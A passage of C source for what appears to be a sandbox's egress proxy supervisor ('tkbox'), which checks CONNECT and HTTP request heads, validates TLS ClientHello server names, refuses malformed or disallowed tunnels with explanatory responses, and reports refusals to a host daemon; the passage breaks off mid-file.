/* SPDX-License-Identifier: Apache-2.0 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "banned.h"
#include "clock.h"
#include "daemon/egress-sup.h"
#include "egress/clienthello.h"
#include "egress/inspect.h"
#include "egress/leak.h"
#include "egress/proxy-head.h"
#include "egress/secret.h"
#include "egress/tls.h"
#include "io.h"
#include "log.h"
#include "secmem.h"

#define ES_DOWN_MAX ((size_t)64 << 10) /* origin bytes held for the guest per stream */
#define ES_READS_PER_TURN 4 /* origin reads per socket and turn (each at most ES_DOWN_MAX) */
#define ES_GRANT_MIN ((uint32_t)64 << 10) /* credit is returned in steps of at least this much */
#define ES_ESTABLISHED "HTTP/1.1 200 Connection established\r\n\r\n"
#define ES_TLS_CHUNK ((size_t)16 << 10) /* plaintext per TLS write, wire bytes per TLS put: about one record */
#define ES_PLAIN_MAX ((size_t)256 << 10) /* plaintext read from one side, not yet taken by the inspector */
#define ES_INSP_OUT_ROOM (EGRESS_INSP_OUT_MAX + ES_PLAIN_MAX) /* the inspector's output stages */
#define ES_WIRE_UP_MAX ((size_t)256 << 10) /* TLS bytes for the origin not yet written */
#define ES_ORG_READ ((size_t)64 << 10) /* origin bytes read at once on an inspected conn (EGRESS_MAX_DATA) */
/* The self-test's clients, by the first segment of their request's path (trusted[] goes in this order). */
static const char *const selftest_clients[] = { "curl", "python3", "git" };

#define ES_SELFTEST_204 "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"

enum es_state {
	ES_FREE = 0,
	ES_HEAD, /* reading the request head */
	ES_ASKED, /* egress_open sent: waiting for the daemon */
	ES_HELLO, /* dialled CONNECT: reading a ClientHello, nothing past fwd goes */
	ES_SERVER, /* the ClientHello went: the server's first bytes decide whether a second one comes (HRR) */
	ES_RELAY, /* bytes both ways */
	ES_INSPECT, /* the proxy reads the requests (a TLS tunnel it terminates, or a box with secrets in absolute form) */
	ES_SELFTEST, /* the self-test host over TLS: one request, answered here */
	ES_ENDING, /* cut while its secret_use waited: egress_done waits for secret_ok (the monitor's rule) */
};

/*
 * An inspected conn (and the self-test host's): the TLS ends, the inspector
 * and the plaintext between them. Box bytes go x->in -> box (TLS) ->
 * box_plain -> insp -> up_plain -> org (TLS) -> up_wire -> the origin;
 * origin bytes go org -> org_plain -> insp -> down_plain -> box -> x->down.
 * Each stage moves only when the next has room, and the origin is read only
 * when every stage after it is empty and x->down below ES_DOWN_MAX: the
 * discipline of the relay (nothing read that the box's queue cannot hold).
 */
struct es_tls {
	struct egress_tls *box; /* the server towards the box; NULL: absolute form (plaintext) */
	struct egress_tls *org; /* the client towards the origin; NULL: absolute form, the self-test */
	struct egress_insp *insp; /* NULL: the self-test */
	struct buf box_plain, up_plain, up_wire, org_plain, down_plain; /* the plaintext ones BUF_SECRET */
	bool ch_ok; /* the box's ClientHello was read and its server name checked */
	bool box_eof_given; /* the transport's end was given to the box TLS */
	bool box_end, box_told; /* no more plaintext from the box; the inspector was told */
	bool org_end, org_told; /* the same for the origin */
	bool org_closed; /* close_notify queued for the origin (or, plain, nothing more goes) */
	bool box_closed; /* close_notify queued for the box */
	bool closing; /* answered: what is queued for the box goes, then the stream ends */
	bool answered; /* the self-test's request was answered */
	enum egress_close close_reason;
	size_t use_q[EGRESS_SECRET_MAX]; /* secrets whose use waits to be kept, in order */
	size_t n_use;
	bool use_sent; /* secret_use for use_q[0] went: waiting for secret_ok */
	char up_err[SUPMSG_MAX_TEXT]; /* the origin's handshake failed: the box's 502 once its handshake is done */
	char rule[SUPMSG_MAX_RULE + 1]; /* for egress_done */
	char error[SUPMSG_MAX_TEXT];
	int64_t duration_ms; /* ES_ENDING: when it was cut */
};

/* One slot: a stream of the mux, a conn of the daemon, or both. */
struct es {
	enum es_state state;
	bool stream; /* the mux stream is open on our side (we have not sent CLOSE) */
	uint32_t id;
	int64_t conn; /* 0: not asked */
	int fd; /* the dialled socket, -1 before the dial */
	bool dialled;
	bool plain;
	bool retry; /* ES_HELLO reads the second ClientHello */
	bool srv_seen; /* origin bytes went to the guest before the ClientHello was read (plain) */
	bool guest_fin, shut_wr, origin_eof, fin_sent;
	bool framed; /* absolute form: only the request's body goes (fwd), nothing after it */
	bool body_done; /* the body's end is in: later guest bytes are dropped */
	struct egress_body body;
	struct egress_head head;
	struct buf hdr; /* the rewritten head (absolute form), written before in */
	struct buf in; /* guest bytes not yet written to the origin */
	struct buf down; /* origin bytes not yet sent to the guest */
	size_t fwd; /* ES_HELLO/ES_SERVER, framed ES_RELAY: bytes of in that may go now */
	size_t fed; /* ES_HELLO: bytes of in the ClientHello reader has taken; framed: the body reader */
	struct egress_ch_reader *ch;
	struct egress_ch_info first;
	uint32_t owed; /* credit to return to the guest */
	uint64_t up, down_n, t0_ms;
	struct es_tls *t; /* ES_INSPECT, ES_SELFTEST */
};

struct egress_sup {
	int port;
	struct egress_sup_host host;
	struct egress_mux mux;
	struct frame_decoder dec;
	struct buf rx; /* bytes read from the port, not yet decoded */
	struct buf payload;
	struct buf out; /* frames for the guest */
	bool stopping;
	char why[256]; /* the violation, when there was one */
	int64_t next_conn;
	/* The proxy's own refusals told to the daemon: at most EGRESS_SUP_REFUSED_PER_S a second, then a summary. */
	uint64_t ref_win_ms; /* the second counted */
	unsigned ref_n; /* told in it */
	unsigned ref_dropped; /* not told one by one in it */
	bool ref_mixed; /* of more than one rule */
	char ref_rule[SUPMSG_MAX_RULE + 1]; /* the first rule not told */
	/* Issue 13: the box's CA, the origins' trust, the secrets (values in secmem) and the self-test. */
	struct egress_ca *ca;
	SSL_CTX *client;
	enum { SECRETS_NONE = 0, SECRETS_LOADED, SECRETS_FAILED } secrets_state;
	struct egress_secret secrets[EGRESS_SECRET_MAX];
	size_t n_secrets;
	struct egress_leak_set *leak;
	unsigned selftest_trusted; /* bits, in selftest_clients order */
	bool selftest_done;
	struct es s[EGRESS_SUP_SLOTS];
	struct es *map[EGRESS_SUP_POLL_MAX]; /* what egress_sup_fill listed, after the port */
	uint8_t scratch[EGRESS_MAX_DATA];
};

static int violation(struct egress_sup *e, const char *why)
{
	if (!e->why[0]) {
		(void)snprintf(e->why, sizeof(e->why), "the box broke the egress protocol: %s", why);
	}
	return -EPROTO;
}

/* Every frame to the guest: the tracker first, then the queue (all or nothing). */
static int emit(struct egress_sup *e, const struct egress_frame *f)
{
	const char *why = NULL;
	int r = egress_mux_check(&e->mux, EGRESS_FROM_HOST, f, &why);

	if (r < 0) {
		log_warn("egress: a frame of ours refused by the tracker: %s", why);
		return r;
	}
	r = egress_encode(f, &e->out);
	if (r < 0) {
		return violation(e, "it does not read its egress port (EGRESS_SUP_OUT_MAX queued)");
	}
	return egress_mux_apply(&e->mux, EGRESS_FROM_HOST, f, &why);
}

static void send_close(struct egress_sup *e, struct es *x, enum egress_close reason)
{
	struct egress_frame f = { .type = EGRESS_CLOSE, .id = x->id, .reason = (uint8_t)reason };

	if (x->stream) {
		x->stream = false;
		(void)emit(e, &f);
	}
}

static uint32_t host_credit(const struct egress_sup *e, const struct es *x)
{
	const struct egress_stream *st = egress_mux_find(&e->mux, x->id);

	return x->stream && st ? st->credit[EGRESS_FROM_HOST] : 0;
}

/* Text the proxy itself writes to the box (a response): not origin bytes, not counted. */
static void send_text(struct egress_sup *e, struct es *x, const void *p, size_t n)
{
	struct egress_frame f = { .type = EGRESS_DATA, .id = x->id, .data = p };

	f.len = MIN(MIN(n, EGRESS_MAX_DATA), (size_t)host_credit(e, x));
	if (f.len > 0) {
		(void)emit(e, &f);
	}
}

static void t_free(struct es_tls *t)
{
	if (!t) {
		return;
	}
	egress_tls_free(t->box);
	egress_tls_free(t->org);
	egress_insp_free(t->insp);
	buf_release(&t->box_plain);
	buf_release(&t->up_plain);
	buf_release(&t->up_wire);
	buf_release(&t->org_plain);
	buf_release(&t->down_plain);
	explicit_bzero(t, sizeof(*t));
	free(t);
}

static void es_free(struct es *x)
{
	if (x->fd >= 0) {
		(void)close(x->fd);
	}
	t_free(x->t);
	buf_release(&x->hdr);
	buf_release(&x->in);
	buf_release(&x->down);
	free(x->ch);
	*x = (struct es){ .fd = -1 };
}

static void t_free(struct es_tls *t);

/*
 * An inspected conn cut while its secret_use waits: the socket, the TLS ends
 * and the inspector go now (the swap is dropped, never forwarded), the end
 * is told when secret_ok comes (the daemon's monitor refuses an egress_done
 * before it).
 */
static void es_ending(struct es *x, const char *rule, const char *error)
{
	struct es_tls *t = x->t, *keep = calloc(1, sizeof(*keep));

	if (x->fd >= 0) {
		(void)close(x->fd);
		x->fd = -1;
	}
	free(x->ch);
	x->ch = NULL;
	buf_release(&x->hdr);
	buf_release(&x->in);
	buf_release(&x->down);
	x->t = keep;
	if (keep) {
		keep->use_sent = true;
		keep->duration_ms = (int64_t)(clock_mono_ms() - x->t0_ms);
		(void)snprintf(keep->rule, sizeof(keep->rule), "%s", rule ? rule : "");
		(void)snprintf(keep->error, sizeof(keep->error), "%s", error ? error : "");
	}
	t_free(t);
	x->state = ES_ENDING;
}

/* secret_ok for a conn that ended meanwhile: its egress_done now. */
static void es_ended(struct egress_sup *e, struct es *x)
{
	struct supmsg m = { .op = SUPMSG_EGRESS_DONE,
			    .conn = x->conn,
			    .bytes_up = (int64_t)x->up,
			    .bytes_down = (int64_t)x->down_n,
			    .duration_ms = x->t ? x->t->duration_ms : 0,
			    .rule = x->t && x->t->rule[0] ? x->t->rule : NULL,
			    .error = x->t && x->t->error[0] ? x->t->error : "the proxy ran out of memory" };

	if (e->host.send(e->host.ctx, &m) < 0) {
		log_warn("egress: conn %lld: its end could not be told to the daemon", (long long)x->conn);
	}
	es_free(x);
}

/* The dialled conn is over: the socket goes, the guest hears CLOSE, the daemon egress_done. */
static void es_finish(struct egress_sup *e, struct es *x, enum egress_close reason, const char *rule, const char *error)
{
	struct supmsg m = { .op = SUPMSG_EGRESS_DONE,
			    .conn = x->conn,
			    .bytes_up = (int64_t)x->up,
			    .bytes_down = (int64_t)x->down_n,
			    .duration_ms = (int64_t)(clock_mono_ms() - x->t0_ms),
			    .rule = (char *)rule,
			    .error = (char *)error };

	send_close(e, x, reason);
	if (x->t && x->t->up_err[0] && !rule) {
		/* The origin's TLS failed and the box went before it could hear the 502: that is still the end. */
		m.rule = "upstream-tls";
		m.error = x->t->up_err;
	}
	if (x->dialled && x->t && x->t->use_sent) {
		es_ending(x, m.rule, m.error);
		return;
	}
	if (x->dialled && e->host.send(e->host.ctx, &m) < 0) {
		log_warn("egress: conn %lld: its end could not be told to the daemon", (long long)x->conn);
	}
	es_free(x);
}

static const char *status_text(int64_t status)
{
	switch (status) {
	case 400:
		return "Bad Request";
	case 403:
		return "Forbidden";
	case 502:
		return "Bad Gateway";
	case 503:
		return "Service Unavailable";
	case 504:
		return "Gateway Timeout";
	default:
		return "Error";
	}
}

/*
 * The one response every refusal the box reads is (issue12-spec.md "Refusal
 * text"): the status, the rule in Tkbox-Rule, the approval id when the
 * message names one, and the message as a text body.
 */
int egress_sup_response(int64_t status, const char *rule, const char *message, struct buf *out)
{
	static const char prefix[] = "tkbox egress: ";
	const char *ap = strstr(message, "tkbox approve ");
	size_t idn = 0, bodyn;
	bool pre = strncmp(message, prefix, sizeof(prefix) - 1) != 0;
	int r;

	if (ap) {
		ap += strlen("tkbox approve ");
		idn = strspn(ap, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-");
		idn = MIN(idn, (size_t)64);
	}
	bodyn = (pre ? sizeof(prefix) - 1 : 0) + strlen(message) + 1;
	r = buf_putf(out,
		     "HTTP/1.1 %d %s\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n"
		     "Tkbox-Rule: %s\r\n",
		     (int)status, status_text(status), rule);
	if (r >= 0 && idn > 0) {
		r = buf_putf(out, "Tkbox-Approval: %.*s\r\n", (int)idn, ap);
	}
	r = r < 0 ? r : buf_putf(out, "Content-Length: %zu\r\n\r\n%s%s\n", bodyn, pre ? prefix : "", message);
	return r;
}

/* Answer the box with a response and CLOSE 2: the stream is refused. */
static void es_respond(struct egress_sup *e, struct es *x, int64_t status, const char *rule, const char *message)
{
	struct buf b;

	if (buf_init(&b, 8192, 0) >= 0) {
		if (egress_sup_response(status, rule, message, &b) >= 0) {
			send_text(e, x, buf_ptr(&b), buf_len(&b));
		}
		buf_release(&b);
	}
	send_close(e, x, EGRESS_CLOSE_REFUSED);
}

/* The refusals of the second that ended and were not told one by one: one egress_refused, rule "suppressed". */
static void refused_summary(struct egress_sup *e)
{
	char msg[SUPMSG_MAX_TEXT];
	struct supmsg m = { .op = SUPMSG_EGRESS_REFUSED, .rule = "suppressed", .message = msg };

	if (e->ref_dropped == 0) {
		return;
	}
	(void)snprintf(msg, sizeof(msg),
		       "%u more refusals by the proxy in the last second (rule %s%s) were not recorded one by one: at "
		       "most %d a second are (EGRESS_SUP_REFUSED_PER_S). Something in the box keeps sending requests "
		       "the proxy refuses; see what runs in it",
		       e->ref_dropped, e->ref_rule, e->ref_mixed ? " and others" : "", EGRESS_SUP_REFUSED_PER_S);
	e->ref_dropped = 0;
	e->ref_mixed = false;
	if (e->host.send(e->host.ctx, &m) < 0) {
		log_warn("egress: the summary of %s refusals could not be told to the daemon", e->ref_rule);
	}
}

/* A new second: what the last one held back is summed up. */
static void refused_tick(struct egress_sup *e, uint64_t now)
{
	if (now - e->ref_win_ms >= 1000) {
		refused_summary(e);
		e->ref_win_ms = now;
		e->ref_n = 0;
	}
}

/* The proxy refused a request itself: tell the daemon (tkbox.egress), EGRESS_SUP_REFUSED_PER_S a second at most. */
static void tell_refused(struct egress_sup *e, const char *rule, const char *message, const struct es *x)
{
	struct supmsg m = { .op = SUPMSG_EGRESS_REFUSED, .rule = (char *)rule, .message = (char *)message };

	refused_tick(e, clock_mono_ms());
	if (e->ref_n >= EGRESS_SUP_REFUSED_PER_S) {
		if (e->ref_dropped++ == 0) {
			(void)snprintf(e->ref_rule, sizeof(e->ref_rule), "%s", rule);
		} else if (strcmp(rule, e->ref_rule) != 0) {
			e->ref_mixed = true;
		}
		return;
	}
	e->ref_n++;
	if (x && x->head.host.name[0]) {
		m.host = (char *)x->head.host.name;
		m.port = x->head.port;
	}
	if (e->host.send(e->host.ctx, &m) < 0) {
		log_warn("egress: a refusal (%s) could not be told to the daemon", rule);
	}
}

/* The proxy refuses a request head itself: 400 malformed (or incomplete), 403 a rule of the door. */
static void es_refuse_head(struct egress_sup *e, struct es *x, int err, const char *reason)
{
	char msg[SUPMSG_MAX_TEXT];
	const char *rule = err == -EACCES    ? (strstr(reason, "port 80") ? "connect-port-80" : "host-mismatch")
			   : err == -E2BIG   ? "head-too-large"
			   : err == -ENODATA ? "incomplete-request"
					     : "malformed-request";

	if (err == -EACCES) {
		(void)snprintf(msg, sizeof(msg),
			       "tkbox egress: request refused: %s. Nothing on the host allows this; send the request "
			       "as the rule says",
			       reason);
	} else {
		(void)snprintf(
			msg, sizeof(msg),
			"tkbox egress: request refused: %s. The proxy takes CONNECT host:port and absolute-form "
			"http:// requests in strict HTTP/1.1 (CONNECT also in HTTP/1.0; docs/egress.md); fix the "
			"client's request",
			reason ? reason : "malformed request head");
	}
	es_respond(e, x, err == -EACCES ? 403 : 400, rule, msg);
	tell_refused(e, rule, msg, x); /* the parser names the target of a door's rule (-EACCES) */
	es_free(x);
}

/* The head is complete: ask the daemon, and read nothing more from the stream until it answers. */
static void es_ask(struct egress_sup *e, struct es *x)
{
	struct supmsg m = { .op = SUPMSG_EGRESS_OPEN,
			    .conn = ++e->next_conn,
			    .form_connect = x->head.kind == EGRESS_REQ_CONNECT,
			    .host = x->head.host.name,
			    .port = x->head.port };

	if (e->host.send(e->host.ctx, &m) < 0) {
		es_respond(e, x, 503, "door-unavailable",
			   "tkbox egress: the proxy could not ask the daemon about this connection; retry, and see "
			   "`tkbox logs` on the host if it keeps failing");
		es_free(x);
		return;
	}
	x->conn = m.conn;
	x->state = ES_ASKED;
}

static void es_local(struct egress_sup *e, struct es *x);
static bool es_head_leak(struct egress_sup *e, struct es *x);

static void es_head(struct egress_sup *e, struct es *x)
{
	const char *reason = NULL;
	int r = egress_head_parse(buf_ptr(&x->in), buf_len(&x->in), &x->head, &reason);

	if (r == 0 && x->guest_fin && buf_len(&x->in) == 0) {
		/* Nothing was requested (a client that connected and closed): nothing to refuse or record. */
		send_close(e, x, EGRESS_CLOSE_DONE);
		es_free(x);
	} else if (r == 0 && x->guest_fin) {
		es_refuse_head(e, x, -ENODATA, "the request head ended before its blank line");
	} else if (r < 0) {
		es_refuse_head(e, x, r, reason);
	} else if (r == 1 && !es_head_leak(e, x)) {
		es_local(e, x);
	}
}

static const char *method_name(enum egress_method m)
{
	static const char *const names[] = {
		[EGRESS_METHOD_CONNECT] = "CONNECT", [EGRESS_METHOD_GET] = "GET",
		[EGRESS_METHOD_HEAD] = "HEAD",	     [EGRESS_METHOD_POST] = "POST",
		[EGRESS_METHOD_PUT] = "PUT",	     [EGRESS_METHOD_DELETE] = "DELETE",
		[EGRESS_METHOD_PATCH] = "PATCH",     [EGRESS_METHOD_OPTIONS] = "OPTIONS",
	};

	return (unsigned)m < ARRAY_SIZE(names) ? names[m] : "GET";
}

/* Whether the header line p[0..n) is named name (case-insensitive). */
static bool header_is(const char *p, size_t n, const char *name)
{
	const char *colon = memchr(p, ':', n);
	size_t k = colon ? (size_t)(colon - p) : n;

	return k == strlen(name) && strncasecmp(p, name, k) == 0;
}

/* Whether a Connection header among the lines h[0..n) names the field name[0..k). */
static bool connection_names(const char *h, size_t n, const char *name, size_t k)
{
	for (const char *p = h, *end = h + n; p < end;) {
		const char *le = memmem(p, (size_t)(end - p), "\r\n", 2);
		size_t ln = le ? (size_t)(le - p) : (size_t)(end - p);
		if (header_is(p, ln, "connection")) {
			const char *v = (const char *)memchr(p, ':', ln) + 1, *ve = p + ln;
			while (v < ve) {
				const char *c = memchr(v, ',', (size_t)(ve - v)), *te = c ? c : ve;
				while (v < te && (*v == ' ' || *v == '\t')) {
					v++;
				}
				size_t tn = (size_t)(te - v);
				while (tn > 0 && (v[tn - 1] == ' ' || v[tn - 1] == '\t')) {
					tn--;
				}
				if (tn == k && strncasecmp(v, name, k) == 0) {
					return true;
				}
				v = c ? c + 1 : ve;
			}
		}
		p = le ? le + 2 : end;
	}
	return false;
}

/*
 * The hop-by-hop headers the proxy does not pass on: its own, the ones RFC
 * 9110 section 7.6.1 names, and any the client's Connection header names
 * (but never Host or the body's framing, which the proxy forwards by).
 */
static bool hop_header(const char *p, size_t n, const char *lines, size_t lines_n)
{
	static const char *const drop[] = { "proxy-connection", "proxy-authorization", "connection",
					    "upgrade",		"keep-alive",	       "te",
					    "trailer" };
	static const char *const keep[] = { "host", "content-length", "transfer-encoding" };
	const char *colon = memchr(p, ':', n);
	size_t k = colon ? (size_t)(colon - p) : n;

	for (size_t i = 0; i < ARRAY_SIZE(drop); i++) {
		if (header_is(p, n, drop[i])) {
			return true;
		}
	}
	for (size_t i = 0; i < ARRAY_SIZE(keep); i++) {
		if (header_is(p, n, keep[i])) {
			return false;
		}
	}
	return connection_names(lines, lines_n, p, k);
}

/* Absolute form to origin form: the path, the headers but the proxy's own, "Connection: close". */
static int es_rewrite(struct es *x)
{
	const char *h = (const char *)buf_ptr(&x->in), *end = h + x->head.head_len - 2;
	const char *p = memmem(h, x->head.head_len, "\r\n", 2);
	int r = buf_putf(&x->hdr, "%s ", method_name(x->head.method));

	if (!p) {
		return -EBADMSG;
	}
	r = r < 0	       ? r
	    : x->head.path_len ? buf_put(&x->hdr, h + x->head.path_off, x->head.path_len)
			       : buf_put(&x->hdr, "/", 1);
	r = r < 0 ? r : buf_putf(&x->hdr, " HTTP/1.1\r\n");
	const char *lines = p + 2;
	for (p += 2; r >= 0 && p < end;) {
		const char *le = memmem(p, (size_t)(end - p) + 2, "\r\n", 2);
		if (!le) {
			return -EBADMSG;
		}
		if (!hop_header(p, (size_t)(le - p), lines, (size_t)(end - lines))) {
			r = buf_put(&x->hdr, p, (size_t)(le - p) + 2);
		}
		p = le + 2;
	}
	r = r < 0 ? r : buf_putf(&x->hdr, "Connection: close\r\n\r\n");
	r = r < 0 ? r : buf_consume(&x->in, x->head.head_len);
	if (r >= 0) {
		x->owed += (uint32_t)x->head.head_len;
	}
	return r;
}

/* A dialled tunnel refused by the proxy (the TLS checks): no byte went, the box gets CLOSE 2. */
static void es_tunnel_refuse(struct egress_sup *e, struct es *x, const char *rule, const char *why)
{
	char msg[SUPMSG_MAX_TEXT];

	(void)snprintf(msg, sizeof(msg), "%s:%u refused: %s", x->head.host.name, x->head.port, why);
	es_finish(e, x, EGRESS_CLOSE_REFUSED, rule, msg);
}

static const char *hello_rule(int r, const char *why, bool retry)
{
	if (r != -EACCES) {
		return r == -EPROTONOSUPPORT ? "not-tls" : "tls-malformed";
	}
	if (retry) {
		return "hrr-sni-changed";
	}
	return strstr(why, "encrypted") || strstr(why, "ECH") || strstr(why, "ech_") ? "ech-refused" : "sni-refused";
}

/* A TLS 1.3 client's ChangeCipherSpec before its second ClientHello (middlebox compatibility). */
static const uint8_t ccs[] = { 0x14, 0x03, 0x03, 0x00, 0x01, 0x01 };

static void es_hello(struct egress_sup *e, struct es *x)
{
	struct egress_ch_info info;
	const char *why = "";
	size_t used = 0, have = buf_len(&x->in) - x->fed;
	int r;

	if (x->retry && x->fed == x->fwd && have > 0 &&
	    memcmp(buf_ptr(&x->in) + x->fed, ccs, MIN(have, sizeof(ccs))) == 0) {
		if (have < sizeof(ccs)) {
			return;
		}
		x->fed += sizeof(ccs);
		have -= sizeof(ccs);
	}
	r = have > 0 ? egress_ch_feed(x->ch, buf_ptr(&x->in) + x->fed, have, &used, &info, &why) : 0;
	if (r == 0) {
		x->fed += have;
		if (x->guest_fin && !x->plain && !x->retry && buf_len(&x->in) == 0) {
			/* The box ended a TLS tunnel without sending a byte: nothing crossed, a clean end, not a refusal. */
			es_finish(e, x, EGRESS_CLOSE_DONE, NULL, NULL);
			return;
		}
		if (x->guest_fin) {
			r = x->plain && !x->retry && x->fed == 0 ? -EPROTONOSUPPORT : -EBADMSG;
			why = "the box ended the tunnel before its TLS ClientHello was complete";
		}
	}
	if (r == 0) {
		return;
	}
	if (r == -EPROTONOSUPPORT && !x->retry && x->plain) {
		x->state = ES_RELAY; /* not TLS, and an allow entry names the port */
		return;
	}
	if (r == 1) {
		r = x->retry ? egress_ch_check_retry(&x->first, &info, &why)
			     : egress_ch_check_sni(&info, &x->head.host, &why);
		if (r < 0) {
			es_tunnel_refuse(e, x, x->retry ? "hrr-sni-changed" : "sni-mismatch", why);
			return;
		}
		x->fwd = x->fed + used;
		x->first = x->retry ? x->first : info;
		x->state = x->retry || x->srv_seen ? ES_RELAY : ES_SERVER;
		return;
	}
	if (r == -EPROTONOSUPPORT) {
		(void)snprintf((char *)e->scratch, 512,
			       "the tunnel's first bytes are not TLS, and no allow entry names port %u; add `--allow "
			       "%s:%u` to `tkbox run` to let any protocol through",
			       x->head.port, x->head.host.name, x->head.port);
		why = (const char *)e->scratch;
	}
	es_tunnel_refuse(e, x, hello_rule(r, why, x->retry), why);
}

/* ES_SERVER: the server's first bytes say whether a second ClientHello comes. */
static void es_server(struct egress_sup *e, struct es *x)
{
	size_t n = buf_len(&x->down);
	int r = egress_tls_is_hrr(buf_ptr(&x->down), n);

	/* Bytes that cannot open a ServerHello (an alert, not TLS) decide at once: no wait for 43 of them. */
	if (r == -ENODATA && !x->origin_eof) {
		return;
	}
	if (r == -EBADMSG || (r == -ENODATA && n > 0)) {
		/* Fail-closed: whether a second ClientHello comes cannot be told from these bytes. */
		es_tunnel_refuse(
			e, x, "tls-malformed",
			"the server's first TLS record does not hold a whole ServerHello opening (type, length, "
			"version and random: 38 bytes, EGRESS_TLS_HRR_MIN), so whether a second ClientHello "
			"follows cannot be checked; the tunnel was ended");
		return;
	}
	if (r == 1) {
		x->retry = true;
		x->fed = x->fwd;
		egress_ch_init(x->ch);
		x->state = ES_HELLO;
		es_hello(e, x);
		return;
	}
	x->state = ES_RELAY;
}

/*
 * Absolute form: the request's body, framed as its head says, may go, and
 * nothing after it (a pipelined second request would reach the decided
 * origin unchecked). A malformed chunk framing ends the stream.
 */
static void es_body(struct egress_sup *e, struct es *x)
{
	const char *why = NULL;
	size_t used = 0;
	int r;

	if (x->body_done) {
		return;
	}
	r = egress_body_feed(&x->body, buf_ptr(&x->in) + x->fed, buf_len(&x->in) - x->fed, &used, &why);
	if (r < 0) {
		char msg[SUPMSG_MAX_TEXT];
		(void)snprintf(msg, sizeof(msg),
			       "the request to %s:%u was ended: %s; the proxy forwards a body only with valid framing",
			       x->head.host.name, x->head.port, why);
		es_finish(e, x, EGRESS_CLOSE_RESET, "malformed-request", msg);
		return;
	}
	x->fed += used;
	x->fwd = x->fed;
	x->body_done = r == 1;
}

/* Guest bytes to the origin: the rewritten head, then what the state lets go. 0, or -errno of the socket. */
static int es_push_up(struct es *x)
{
	while (buf_len(&x->hdr) > 0) {
		ssize_t n = send(x->fd, buf_ptr(&x->hdr), buf_len(&x->hdr), MSG_DONTWAIT | MSG_NOSIGNAL);
		if (n < 0) {
			return errno == EAGAIN || errno == EINTR ? 0 : negative_errno();
		}
		(void)buf_consume(&x->hdr, (size_t)n);
		x->up += (uint64_t)n;
	}
	for (;;) {
		size_t limit = x->state == ES_RELAY && !x->framed ? buf_len(&x->in) : MIN(x->fwd, buf_len(&x->in));
		ssize_t n;
		if (limit == 0) {
			break;
		}
		n = send(x->fd, buf_ptr(&x->in), limit, MSG_DONTWAIT | MSG_NOSIGNAL);
		if (n < 0) {
			return errno == EAGAIN || errno == EINTR ? 0 : negative_errno();
		}
		(void)buf_consume(&x->in, (size_t)n);
		x->owed += (uint32_t)n;
		x->up += (uint64_t)n;
		x->fwd -= MIN(x->fwd, (size_t)n);
		x->fed -= MIN(x->fed, (size_t)n);
	}
	if (x->framed && x->body_done && x->fwd == 0) {
		buf_reset(&x->in); /* after the request: never forwarded, its credit never returned */
	}
	if (x->state == ES_RELAY && x->guest_fin && !x->shut_wr && buf_len(&x->in) == 0) {
		if (shutdown(x->fd, SHUT_WR) < 0 && errno != ENOTCONN) {
			return negative_errno();
		}
		x->shut_wr = true;
	}
	return 0;
}

/* Origin bytes into the stream's queue (at most ES_DOWN_MAX held): how many, 0 (none, or EOF), or -errno. */
static int es_pull_down(struct egress_sup *e, struct es *x)
{
	size_t room = ES_DOWN_MAX - MIN(ES_DOWN_MAX, buf_len(&x->down));
	ssize_t n;

	if (room == 0 || x->origin_eof) {
		return 0;
	}
	n = recv(x->fd, e->scratch, MIN(room, sizeof(e->scratch)), MSG_DONTWAIT);
	if (n < 0) {
		return errno == EAGAIN || errno == EINTR ? 0 : negative_errno();
	}
	if (n == 0) {
		x->origin_eof = true;
		return 0;
	}
	if (x->state == ES_HELLO && !x->retry && x->plain) {
		x->srv_seen = true; /* a plain tunnel whose server speaks first */
	}
	return buf_put(&x->down, e->scratch, (size_t)n) < 0 ? -ENOMEM : (int)n;
}

static bool down_open(const struct es *x)
{
	return x->state == ES_RELAY || x->state == ES_INSPECT || x->state == ES_SELFTEST ||
	       (x->state == ES_HELLO && (x->retry || x->plain));
}

/* Origin bytes to the guest within its grant, while the queue towards the port has room. */
static void es_push_down(struct egress_sup *e, struct es *x)
{
	while (down_open(x) && buf_len(&x->down) > 0 && buf_len(&e->out) < EGRESS_SUP_OUT_DATA_MAX) {
		struct egress_frame f = { .type = EGRESS_DATA, .id = x->id, .data = buf_ptr(&x->down) };
		f.len = MIN(MIN(buf_len(&x->down), EGRESS_MAX_DATA), (size_t)host_credit(e, x));
		if (f.len == 0 || emit(e, &f) < 0) {
			return;
		}
		(void)buf_consume(&x->down, f.len);
		x->down_n += f.len;
	}
}

/* ---------------------------------------------------------------- inspected conns (issue 13) */

static int t_new(struct es *x, bool box_tls, struct es_tls **ret)
{
	struct es_tls *t = calloc(1, sizeof(*t));
	int r;

	if (!t) {
		return -ENOMEM;
	}
	r = buf_init(&t->box_plain, ES_PLAIN_MAX, BUF_SECRET);
	r = r < 0 ? r : buf_init(&t->up_plain, ES_INSP_OUT_ROOM, BUF_SECRET);
	r = r < 0 ? r : buf_init(&t->up_wire, ES_WIRE_UP_MAX + EGRESS_TLS_CIPHER_MAX, 0);
	r = r < 0 ? r : buf_init(&t->org_plain, ES_PLAIN_MAX, BUF_SECRET);
	r = r < 0 ? r : buf_init(&t->down_plain, ES_INSP_OUT_ROOM, BUF_SECRET);
	if (r >= 0 && box_tls) {
		x->ch = malloc(sizeof(*x->ch));
		r = x->ch ? 0 : -ENOMEM;
		if (x->ch) {
			egress_ch_init(x->ch);
		}
	}
	if (r < 0) {
		t_free(t);
		return r;
	}
	t->close_reason = EGRESS_CLOSE_DONE;
	t->ch_ok = !box_tls;
	*ret = t;
	return 0;
}

/* The conn ends the way it was decided (an answer, the end of the exchange): egress_done with its rule and error. */
static void t_end(struct egress_sup *e, struct es *x)
{
	struct es_tls *t = x->t;
	enum egress_close reason = t->close_reason;
	char rule[sizeof(t->rule)], error[sizeof(t->error)];

	(void)snprintf(rule, sizeof(rule), "%s", t->rule);
	(void)snprintf(error, sizeof(error), "%s", t->error);
	es_finish(e, x, reason, rule[0] ? rule : NULL, error[0] ? error : NULL);
}

/* The conn ends now, nothing more for the box (a TLS failure, a reset). */
static void t_abort(struct egress_sup *e, struct es *x, const char *rule, const char *error)
{
	char msg[SUPMSG_MAX_TEXT];

	(void)snprintf(msg, sizeof(msg), "%s", error);
	es_finish(e, x, EGRESS_CLOSE_RESET, rule, msg);
}

/*
